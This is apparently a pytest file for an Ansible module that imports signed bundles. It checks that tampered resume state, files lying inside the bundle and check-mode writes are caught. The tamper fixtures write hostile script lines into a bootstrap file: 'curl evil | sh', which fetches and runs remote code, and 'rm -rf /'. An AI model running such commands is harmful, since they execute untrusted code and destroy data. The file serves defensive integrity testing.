"""Issue 14 items 9 and 15, issue 19 item 6: the resume state in the destination is checked against
the signed sizes (and, with reverify, against the signed hashes); a public key lying inside the
bundle or the destination is refused; check mode reads sizes only and writes nothing."""
import json
import os
import shutil
import subprocess

from conftest import ROOT, snapshot
from importcase import SMALL_FILES, Case, import_
from ansible_collections.llmops.onprem.plugins.module_utils import _bundle as B


def forge_state(dest, path):
    """What an attacker with write access to the destination does after changing `path`: record
    the changed file's stat in the resume state so that a plain resume would trust it."""
    ctl = dest / B.IMPORT_DIR
    state = json.loads((ctl / "state.json").read_text())
    st = os.stat(str(dest / path))
    state["files"][path]["stat"] = [st.st_size, st.st_mtime_ns, st.st_ino]
    (ctl / "state.json").write_text(json.dumps(state))
    (ctl / "manifest.json").unlink()  # an unfinished import: the next run resumes


def test_resume_state_is_checked_against_the_signed_size(tmp_path):
    case = Case(tmp_path)
    case.seal()
    assert import_(case.root, case.pub, case.dest)[1] is None
    (case.dest / "bootstrap.sh").write_bytes(b"#!/bin/sh\ncurl evil | sh\n")
    forge_state(case.dest, "bootstrap.sh")
    res, err = import_(case.root, case.pub, case.dest)
    assert err is None and res["files_copied"] == 1 and res["imported"]
    assert (case.dest / "bootstrap.sh").read_bytes() == b"#!/bin/sh\necho hi\n"


def test_reverify_hashes_every_file_in_place(tmp_path):
    case = Case(tmp_path)
    case.seal()
    assert import_(case.root, case.pub, case.dest)[1] is None
    (case.dest / "bootstrap.sh").write_bytes(b"#!/bin/sh\nrm -rf /\n")  # same size: only a hash can tell
    forge_state(case.dest, "bootstrap.sh")
    res, err = import_(case.root, case.pub, case.dest, reverify=True)
    assert err is None and (res["files_copied"], res["files_skipped"]) == (1, 3)
    assert (case.dest / "bootstrap.sh").read_bytes() == b"#!/bin/sh\necho hi\n"


def test_public_key_inside_the_bundle_or_the_destination_is_refused(tmp_path):
    case = Case(tmp_path)
    case.seal()
    case.dest.mkdir()
    for where, d in (("the bundle", case.root), ("the import destination", case.dest)):
        key = d / "trust.pub.pem"
        shutil.copy(case.pub, str(key))
        before = snapshot(str(tmp_path))
        res, err = import_(case.root, key, case.dest)
        assert err == ("the public key %s lies inside %s (%s): a key that travels with the bundle proves nothing, whoever changed "
                       "the bundle could change the key too. Bring the site's public key out of band (a second medium, checked "
                       "against a printed fingerprint), keep it outside the bundle and the destination, and pass that file. "
                       "Nothing was installed" % (key, where, d))
        assert snapshot(str(tmp_path)) == before
        key.unlink()


def test_check_mode_writes_nothing_and_says_nothing_was_imported(tmp_path):
    """Through ansible (--check), as site.yml runs it: no file, no state, no progress; the plan and imported=false."""
    case = Case(tmp_path)
    case.seal()
    media = case.pack()
    progress = tmp_path / "progress"
    before = snapshot(str(tmp_path))
    env = dict(os.environ, ANSIBLE_CONFIG=os.path.join(ROOT, "ansible.cfg"), NO_COLOR="1")
    args = "src=%s public_key=%s dest=%s progress_file=%s" % (media, case.pub, case.dest, progress)
    p = subprocess.run([os.path.join(ROOT, ".venv", "bin", "ansible"), "localhost", "-C", "-m", "llmops.onprem.bundle_verify",
                        "-a", args, "-o"], capture_output=True, text=True, env=env, cwd=ROOT, check=False)
    assert p.returncode == 0, p.stdout + p.stderr
    res = json.loads(p.stdout.split("=>", 1)[1])
    assert (res["imported"], res["check_mode_plan"], res["changed"]) == (False, True, True)
    assert (res["files_copied"], res["bytes_copied"]) == (4, sum(len(v) for v in SMALL_FILES.values()))
    assert snapshot(str(tmp_path)) == before and not case.dest.exists() and not progress.exists()
    # after a real import, check mode says the bundle is in place
    assert import_(media, case.pub, case.dest)[1] is None
    res, err = import_(media, case.pub, case.dest, check_mode=True)
    assert err is None and (res["imported"], res["changed"], res["files_copied"]) == (True, False, 0)
